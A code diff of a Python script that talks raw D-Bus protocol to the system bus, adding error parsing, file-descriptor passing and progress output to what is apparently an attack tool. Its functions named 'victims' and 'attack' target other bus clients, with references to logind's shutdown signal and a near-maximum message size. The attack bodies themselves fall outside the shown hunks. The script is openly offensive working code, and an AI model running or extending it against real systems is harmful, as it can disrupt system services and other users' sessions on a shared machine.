@@ -11,16 +11,20 @@ import socket
 import struct
 import sys
 import time
+from collections.abc import Sequence
+from typing import NamedTuple
 
 BUS = "org.freedesktop.DBus"
 LOGIND = ("/org/freedesktop/login1", "org.freedesktop.login1.Manager", "PrepareForShutdown")
 CALL, RETURN, ERROR, SIGNAL = 1, 2, 3, 4
 #: The longest that dbus-daemon takes from a user is 32 MiB.
 HUGE = 31 << 20
-Field = tuple[int, str, str]
+Field = tuple[int, str, str | int]
 
 
-def text(kind: str, value: str) -> bytes:
+def text(kind: str, value: str | int) -> bytes:
+    if isinstance(value, int):
+        return struct.pack("<I", value)
     data = value.encode()
     if kind == "g":
         return bytes([len(data)]) + data + b"\0"
@@ -39,43 +43,64 @@ def message(kind: int, serial: int, fields: list[Field], body: bytes, reply_to: 
     return head + parts + b"\0" * (-len(parts) % 8) + body
 
 
-class Connection:
-    """One connection to the bus."""
+class Heard(NamedTuple):
+    """A message that came: what it replies to, and the name of the error if it is one."""
 
-    def __init__(self) -> None:
+    kind: int
+    reply_to: int
+    body: bytes
+    error: str
+
+
+class Connection:
+    """One connection to the bus; the limit is in seconds, of each time that it waits."""
+
+    def __init__(self, limit: float = 5) -> None:
         self.socket = socket.socket(socket.AF_UNIX)
-        self.socket.settimeout(5)
+        self.socket.settimeout(limit)
         self.socket.connect("/run/dbus/system_bus_socket")
-        self.socket.sendall(b"\0AUTH EXTERNAL %s\r\n" % str(os.getuid()).encode().hex().encode())
-        self.socket.recv(200)
+        user = str(os.getuid()).encode().hex().encode()
+        for line in (b"\0AUTH EXTERNAL %s\r\n" % user, b"NEGOTIATE_UNIX_FD\r\n"):
+            self.socket.sendall(line)
+            self.socket.recv(200)
         self.socket.sendall(b"BEGIN\r\n")
         self.serial = 0
         self.ask("Hello")
 
-    def send(self, kind: int, fields: list[Field], body: bytes, reply_to: int = 0) -> int:
+    def send(
+        self,
+        kind: int,
+        fields: list[Field],
+        body: bytes,
+        reply_to: int = 0,
+        fds: Sequence[int] = (),
+    ) -> int:
         """Its serial number."""
         self.serial += 1
-        self.socket.sendall(message(kind, self.serial, fields, body, reply_to))
+        whole = message(kind, self.serial, fields, body, reply_to)
+        if fds:
+            whole = whole[socket.send_fds(self.socket, [whole], fds) :]
+        self.socket.sendall(whole)
         return self.serial
 
     def ask(self, member: str, argument: str = "") -> bytes:
         """The body of the bus's answer; empty for an error."""
-        fields = [(1, "o", "/org/freedesktop/DBus"), (2, "s", BUS), (3, "s", member), (6, "s", BUS)]
-        fields += [(8, "g", "s")] if argument else []
+        fields: list[Field] = [(1, "o", "/org/freedesktop/DBus"), (2, "s", BUS), (3, "s", member)]
+        fields += [(6, "s", BUS), *([(8, "g", "s")] if argument else [])]
         serial = self.send(CALL, fields, text("s", argument) if argument else b"")
         while True:
-            kind, reply_to, body = self.receive()
-            if kind in (RETURN, ERROR) and reply_to == serial:
-                return body if kind == RETURN else b""
+            heard = self.receive()
+            if heard.kind in (RETURN, ERROR) and heard.reply_to == serial:
+                return heard.body if heard.kind == RETURN else b""
 
-    def receive(self) -> tuple[int, int, bytes]:
-        """Kind, serial number of what it replies to, and body of the next message."""
+    def receive(self) -> Heard:
+        """The next message."""
         head = self._exactly(16)
         body, _, fields = struct.unpack("<III", head[4:])
         parts = self._exactly(fields + -fields % 8)
         at = parts.find(b"\5\1u\0")
         reply_to = struct.unpack_from("<I", parts, at + 4)[0] if at >= 0 else 0
-        return head[1], reply_to, self._exactly(body)
+        return Heard(head[1], reply_to, self._exactly(body), _error_name(parts))
 
     def _exactly(self, size: int) -> bytes:
         data = b""
@@ -85,6 +110,14 @@ class Connection:
                 raise EOFError
             data += piece
         return data
+
+
+def _error_name(parts: bytes) -> str:
+    at = parts.find(b"\4\1s\0")
+    if at < 0:
+        return ""
+    size = struct.unpack_from("<I", parts, at + 4)[0]
+    return parts[at + 8 : at + 8 + size].decode()
 
 
 def victims(connection: Connection, pid: int) -> list[str]:
@@ -127,9 +160,9 @@ def main() -> None:
                 for victim in found:
                     attack(Connection(), victim)
                     sent += 1
+                    print(sent, flush=True)
             except (OSError, EOFError):
                 time.sleep(0.1)  # thrown out: again
-        print(sent, flush=True)
 
 
 if __name__ == "__main__":
